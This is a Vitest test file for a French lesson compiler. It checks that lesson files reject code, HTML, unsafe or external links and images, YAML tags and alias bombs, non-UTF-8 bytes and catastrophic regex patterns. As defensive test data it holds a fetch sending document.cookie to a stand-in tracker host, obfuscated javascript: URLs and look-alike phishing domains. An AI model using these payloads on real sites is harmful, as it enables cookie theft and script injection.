// @vitest-environment node
/**
 * A lesson is content, not code: code, elements outside the vocabulary, links and images that
 * leave the app or run code, unsafe YAML, files that are not UTF-8 and patterns that could hang
 * are rejected anywhere in the file, each with its exact message and position.
 */
import { mkdtempSync, cpSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compileLesson } from '../../src/compiler/compileLesson.ts';
import { createContentStore } from '../../src/compiler/content/contentStore.ts';
import { formatMessages } from '../../src/compiler/messages.ts';
import { change, fixtureContent, messages, mini, MINI, miniPath, store } from './miniFixture.ts';

const intro = 'Vous allez entrer dans **Mon Compte**.';
const ruleOf = (line: string) => line.split('  ').at(-1);

describe('code', () => {
  it('imports and exports', async () => {
    expect(await messages(change(mini, [intro, `import x from "y"\nexport const a = 1\n\n${intro}`]))).toEqual([
      `${MINI}:13:1  error  Imports and exports are not allowed in a lesson: remove this line and use only the lesson vocabulary.  not-allowed`,
    ]);
  });

  it('expressions in a hint, an answer and a mistake', async () => {
    const source = change(
      mini,
      ['<Hint>Regardez en haut de la page.</Hint>', '<Hint>Regardez {window.location}.</Hint>'],
      ['<Answer value="courrier">Dans une lettre</Answer>', '<Answer value="courrier">{"Dans une lettre"}</Answer>'],
      ['Ce lien sert à demander une aide.', '{alert(document.cookie)}'],
    );
    expect(await messages(source)).toEqual([
      `${MINI}:17:18  error  Expressions in braces \`{…}\` are not allowed in a lesson: write plain text (escape a brace as \`\\{\`).  not-allowed`,
      `${MINI}:19:40  error  Expressions in braces \`{…}\` are not allowed in a lesson: write plain text (escape a brace as \`\\{\`).  not-allowed`,
      `${MINI}:33:28  error  Expressions in braces \`{…}\` are not allowed in a lesson: write plain text (escape a brace as \`\\{\`).  not-allowed`,
    ]);
  });

  it('attributes written as expressions, spread or not in the vocabulary', async () => {
    const source = change(
      mini,
      ['<Term id="carte-vitale">', '<Term id={"carte-vitale"}>'],
      ['<Hint>Regardez la carte', '<Hint {...props}>Regardez la carte'],
      ['<Hint>Tapez les 13', '<Hint onClick="alert(1)">Tapez les 13'],
      ['<AdvisorNote>', '<AdvisorNote style="color: red">'],
    );
    expect(await messages(source)).toEqual([
      `${MINI}:20:16  error  \`<AdvisorNote>\` takes no attribute: remove \`style\`.  invalid-attribute`,
      `${MINI}:24:31  error  \`id\` on \`<Term>\` must be plain text in quotes, not \`{…}\`: write id="…".  invalid-attribute`,
      `${MINI}:25:9  error  \`<Hint>\` cannot take \`{...}\` attributes: write each attribute as name="value".  invalid-attribute`,
      `${MINI}:26:9  error  \`<Hint>\` takes no attribute: remove \`onClick\`.  invalid-attribute`,
    ]);
  });

  it('inside a Case or an Otherwise, which are never shown: code, a Step, text', async () => {
    const source = change(
      mini,
      [
        '<Case value="couple" goto="type-couple" />',
        '<Case value="couple" goto="type-couple">\n    {fetch("https://tracker.example/" + document.cookie)}\n  </Case>',
      ],
      [
        '<Otherwise goto="valider" />',
        '<Otherwise goto="valider">\n    <Step id="cache" skill="inconnu" action="voler" target="nulle.part">Rien</Step>\n\n    Un texte caché.\n  </Otherwise>',
      ],
    );
    expect(await messages(source)).toEqual([
      `${MINI}:38:5  error  Expressions in braces \`{…}\` are not allowed in a lesson: write plain text (escape a brace as \`\\{\`).  not-allowed`,
      `${MINI}:41:5  error  \`<Step>\` cannot be inside \`<Otherwise>\`, which holds nothing: end \`<Otherwise …>\` with \`/>\` and put this \`<Step>\` after the \`<Branch>\`.  misplaced-element`,
      `${MINI}:43:5  error  \`<Otherwise>\` holds no text: end it with \`/>\` (\`<Otherwise … />\`) and move this text into a step.  misplaced-element`,
    ]);
  });

  it('comments `{/* … */}` are allowed, and never shown nor read aloud', async () => {
    const source = change(
      mini,
      [intro, `{/* Pour les auteurs : cette leçon est courte. */}\n\n${intro}`],
      ['  Cliquez sur **Mon Compte**', '  {/* le bouton bleu */}\n  Cliquez sur **Mon Compte**'],
    );
    const result = await compileLesson({ path: miniPath, value: source }, { store });
    expect(formatMessages(result.file)).toEqual([]);
    expect(result.data!.units[0]!.text).toBe('Cliquez sur Mon Compte, en haut à droite.');
    expect(result.code).not.toContain('auteurs');
  });
});

describe('elements outside the vocabulary, anywhere', () => {
  it('HTML, with the Markdown way to write it, and fragments', async () => {
    const source = change(
      mini,
      [intro, `${intro} <a href="https://tracker.example">ici</a>`],
      [
        '<Hint>Regardez en haut de la page.</Hint>',
        '<Hint>Regardez <img src="https://tracker.example/p.gif" />.</Hint>',
      ],
      [
        '<Answer value="courrier">Dans une lettre</Answer>',
        '<Answer value="courrier">Dans une <div>lettre</div></Answer>',
      ],
      ['Choisissez « Salaires ».', 'Choisissez <>« Salaires »</>.'],
    );
    expect(await messages(source)).toEqual([
      `${MINI}:13:40  error  Unknown element \`<a>\`. For a link, write \`[text](https://www.service-public.fr/…)\`. A lesson uses only \`Step\`, \`Hint\`, \`Mistake\`, \`Branch\`, \`Case\`, \`Otherwise\`, \`Question\`, \`Answer\`, \`AdvisorNote\` or \`Term\`.  unknown-element`,
      `${MINI}:17:18  error  Unknown element \`<img>\`. For an image, put the file beside the lesson and write \`![description](image.png)\`. A lesson uses only \`Step\`, \`Hint\`, \`Mistake\`, \`Branch\`, \`Case\`, \`Otherwise\`, \`Question\`, \`Answer\`, \`AdvisorNote\` or \`Term\`.  unknown-element`,
      `${MINI}:33:37  error  Unknown element \`<div>\`. Write Markdown instead of HTML (\`**bold**\`, lists with \`-\`). A lesson uses only \`Step\`, \`Hint\`, \`Mistake\`, \`Branch\`, \`Case\`, \`Otherwise\`, \`Question\`, \`Answer\`, \`AdvisorNote\` or \`Term\`.  unknown-element`,
      `${MINI}:42:14  error  Fragments \`<>…</>\` are not part of the lesson vocabulary: remove the empty tags.  unknown-element`,
    ]);
  });
});

describe('links and images', () => {
  it('`javascript:`, `data:` and `vbscript:` in any spelling', async () => {
    const links = [
      'javascript:alert(1)',
      'JaVaScRiPt&#58;alert(1)',
      '&#x6A;avascript:alert(1)',
      'java%73cript:alert(1)',
      '<java script:alert(1)>',
      'data:text/html;base64,PHNjcmlwdD4=',
      'VBScript:msgbox(1)',
    ];
    const source = change(mini, [intro, links.map((url, i) => `[lien ${i}](${url})`).join('\n')]);
    const lines = await messages(source);
    expect(lines).toHaveLength(links.length);
    expect(lines.map(ruleOf)).toEqual(links.map(() => 'unsafe-url'));
    expect(lines[0]).toBe(
      `${MINI}:13:1  error  This link runs code or hides content (\`javascript:alert(1)\`): remove it. A lesson links only to its own pages (a relative address) or to an official site.  unsafe-url`,
    );
    expect(lines[3]).toBe(
      `${MINI}:16:1  error  This link runs code or hides content (\`java%73cript:alert(1)\`): remove it. A lesson links only to its own pages (a relative address) or to an official site.  unsafe-url`,
    );
    expect(lines.map((line) => line.split(':')[1])).toEqual(['13', '14', '15', '16', '17', '18', '19']);
  });

  it('links to other sites, look-alikes and plain http, even as references', async () => {
    const links = [
      'https://tracker.example/',
      'https://caf.fr.aide-en-ligne.example/connexion',
      'https://www.caf.fr@evil.example/',
      'http://www.caf.fr/',
      '//evil.example/x',
      'https://www.caf.fr:8443/',
    ];
    const source = change(mini, [
      intro,
      `${links.map((url, i) => `[lien ${i}](${url})`).join('\n')}\n[référence][r]\n\n[r]: https://evil.example/r`,
    ]);
    const lines = await messages(source);
    expect(lines[0]).toBe(
      `${MINI}:13:1  error  The link to \`https://tracker.example/\` leaves the practice for a site that is not on the list: link only to a relative address or, with https://, to \`service-public.fr\`, \`caf.fr\`, \`francetravail.fr\`, \`impots.gouv.fr\`, \`ameli.fr\`, \`franceconnect.gouv.fr\` or \`legifrance.gouv.fr\` (or one of their subdomains).  external-link`,
    );
    expect(lines.map((line) => `${line.split(':')[1]} ${ruleOf(line)}`)).toEqual([
      '13 external-link',
      '14 external-link',
      '15 external-link',
      '16 external-link',
      '17 external-link',
      '18 external-link',
      '21 external-link',
    ]);
  });

  it('links inside the app and to the official sites (https) compile', async () => {
    const links = [
      'https://www.caf.fr/allocataires',
      'https://service-public.fr/particuliers/vosdroits',
      'https://www.impots.gouv.fr/',
      '/lecons/caf-se-connecter',
      '../carnet',
      '#etape',
    ];
    const source = change(mini, [
      intro,
      `${links.map((url, i) => `[lien ${i}](${url})`).join('\n')}\n![Le bouton](bouton.png)`,
    ]);
    expect(await messages(source)).toEqual([]);
  });

  it('images from another site (official ones too), as data, or by reference', async () => {
    const source = change(mini, [
      intro,
      `${intro} ![](https://tracker.example/p.gif)\n![Logo](https://www.caf.fr/logo.png)\n![](data:image/png;base64,iVBORw0KGgo=)\n![pixel][p]\n\n[p]: https://tracker.example/p.gif`,
    ]);
    expect(await messages(source)).toEqual([
      `${MINI}:13:40  error  The image \`https://tracker.example/p.gif\` comes from another site, which would see every learner who opens the lesson: put the image file beside the lesson and write \`![description](image.png)\`.  external-image`,
      `${MINI}:14:1  error  The image \`https://www.caf.fr/logo.png\` comes from another site, which would see every learner who opens the lesson: put the image file beside the lesson and write \`![description](image.png)\`.  external-image`,
      `${MINI}:15:1  error  This image address runs code or hides content (\`data:image/png;base64,iVBORw0KGgo=\`): put the image file beside the lesson and write \`![description](image.png)\`.  unsafe-url`,
      `${MINI}:16:1  error  The image \`https://tracker.example/p.gif\` comes from another site, which would see every learner who opens the lesson: put the image file beside the lesson and write \`![description](image.png)\`.  external-image`,
    ]);
  });
});

describe('YAML', () => {
  it('tags, anchors and aliases, at their place in the frontmatter', async () => {
    const source = change(
      mini,
      ['level: 1', 'level: !!js/function "function () { return 1 }"'],
      ['title: Se connecter', 'title: &t Se connecter'],
      ['summary: Entrer dans Mon Compte.', 'summary: *t'],
    );
    expect(await messages(source)).toEqual([
      `${MINI}:3:8  error  The anchor \`&t\` is not allowed: remove it, and write values in full where they are used.  yaml-unsafe`,
      `${MINI}:4:10  error  The alias \`*t\` repeats another value: write the value itself here (YAML anchors and aliases are not allowed).  yaml-unsafe`,
      `${MINI}:8:8  error  The YAML tag \`!!js/function\` is not allowed: remove it and write a plain value (text, number, list).  yaml-unsafe`,
    ]);
  });

  it('an alias bomb is refused before anything is expanded', async () => {
    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
      .concat(
        ['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'].map(
          (k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(',')}]`,
        ),
      )
      .join('\n');
    const lines = await messages(change(mini, ['duration: 5', `duration: 5\n${bomb}`]));
    expect(lines[0]).toBe(
      `${MINI}:10:4  error  The anchor \`&a\` is not allowed: remove it, and write values in full where they are used.  yaml-unsafe`,
    );
    expect(new Set(lines.map(ruleOf))).toEqual(new Set(['yaml-unsafe']));
  });

  it('nesting deeper than 8 levels, even thousands deep, at its line', async () => {
    const message =
      'This YAML is nested more than 8 levels deep: write it flatter (content files need a few levels at most).  yaml-unsafe';
    expect(await messages(change(mini, ['duration: 5', `duration: 5\nx: ${'['.repeat(9)}${']'.repeat(9)}`]))).toEqual([
      `${MINI}:10:11  error  ${message}`,
    ]);
    expect(
      await messages(change(mini, ['duration: 5', `duration: 5\nx: ${'['.repeat(2000)}${']'.repeat(2000)}`])),
    ).toEqual([`${MINI}:10:20  error  ${message}`]);
    expect(await messages(change(mini, ['duration: 5', `duration: 5\nx:\n  ${'- '.repeat(5000)}a`]))).toEqual([
      `${MINI}:11:3  error  ${message}`,
    ]);
  });

  it('in content files too (a persona)', () => {
    const root = mkdtempSync(join(realpathSync(tmpdir()), 'pas-a-pas-yaml-'));
    try {
      cpSync(fixtureContent, root, { recursive: true });
      writeFileSync(join(root, 'personas/eve.yaml'), 'id: eve\nprenom: &p Ève\nnom: *p\n');
      expect(formatMessages(createContentStore(root).persona('eve').file, root)).toEqual([
        'personas/eve.yaml:2:9  error  The anchor `&p` is not allowed: remove it, and write values in full where they are used.  yaml-unsafe',
        'personas/eve.yaml:3:6  error  The alias `*p` repeats another value: write the value itself here (YAML anchors and aliases are not allowed).  yaml-unsafe',
      ]);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('the file itself', () => {
  const latin1 = Buffer.from(
    change(mini, ['Cliquez sur **Me connecter**', 'Cliquez sur **Me connecter** à droite']),
    'latin1',
  );

  it('a byte that is not UTF-8, at its line and column', async () => {
    expect(await messages(latin1)).toEqual([
      `${MINI}:10:22  error  The file is not valid UTF-8 here (byte 0xE0): save the file as UTF-8 in your editor (often « Encodage : UTF-8 » when saving), then check the accents on this line.  file-encoding`,
    ]);
  });

  it('the same file already read as text, as `npm run check` and the bundler read it', async () => {
    expect(await messages(new TextDecoder().decode(latin1))).toEqual([
      `${MINI}:10:22  error  The file is not valid UTF-8 here (a byte of another encoding, shown as « � »): save the file as UTF-8 in your editor (often « Encodage : UTF-8 » when saving), then check the accents on this line.  file-encoding`,
    ]);
  });

  it('a NUL byte', async () => {
    expect(await messages(change(mini, ['Cliquez sur **Me connecter**', 'Cliquez\0 sur **Me connecter**']))).toEqual([
      `${MINI}:48:10  error  The file holds a NUL byte, an invisible control character: delete it (lessons are plain text, saved as UTF-8).  file-encoding`,
    ]);
    expect(await messages(Buffer.from('---\nid: mini\n\0'))).toEqual([
      `${MINI}:3:1  error  The file holds a NUL byte, an invisible control character: delete it (lessons are plain text, saved as UTF-8).  file-encoding`,
    ]);
  });

  it('UTF-8 bytes compile as the text does', async () => {
    expect(await messages(new TextEncoder().encode(mini))).toEqual([]);
  });
});

describe('`matches:` patterns', () => {
  const step = 'expect="persona:nir13"';

  it('a catastrophic pattern, a backreference, a lookahead, a count too large', async () => {
    const at = (expect: string) => messages(change(mini, [step, expect]));
    expect(await at('expect="matches:(a+)+b" value="aab"')).toEqual([
      `${MINI}:23:84  error  \`expect="matches:(a+)+b"\` repeats \`(a+)+\`, a group that holds a repetition itself, which can make the check very slow: repeat the inside or the group, not both (\`(a+)+\` → \`a+\`).  value-pattern`,
    ]);
    expect(await at('expect="matches:(\\d)\\1" value="11"')).toEqual([
      `${MINI}:23:84  error  \`expect="matches:(\\d)\\1"\` uses \`\\1\`, a backreference, which value patterns do not allow: write the characters again.  value-pattern`,
    ]);
    expect(await at('expect="matches:(?=\\d)\\w+" value="1a"')).toEqual([
      `${MINI}:23:84  error  \`expect="matches:(?=\\d)\\w+"\` uses \`(?=…)\`, a lookahead or lookbehind, which value patterns do not allow: describe the value with characters, classes and repetitions.  value-pattern`,
    ]);
    expect(await at('expect="matches:\\d{1,1000}" value="1"')).toEqual([
      `${MINI}:23:84  error  \`expect="matches:\\d{1,1000}"\` repeats 1000 times in \`{1,1000}\`: counts go up to 100, use a smaller count or \`+\`.  value-pattern`,
    ]);
  });

  it('a pattern of the subset compiles, and its example must match', async () => {
    expect(await messages(change(mini, [step, 'expect="matches:\\d{13}" value="2951099126111"']))).toEqual([]);
    expect(await messages(change(mini, [step, 'expect="matches:\\d{13}" value="29510991261"']))).toEqual([
      `${MINI}:23:108  error  value="29510991261" does not match \`matches:\\d{13}\`: give an example that matches.  invalid-attribute`,
    ]);
  });
});
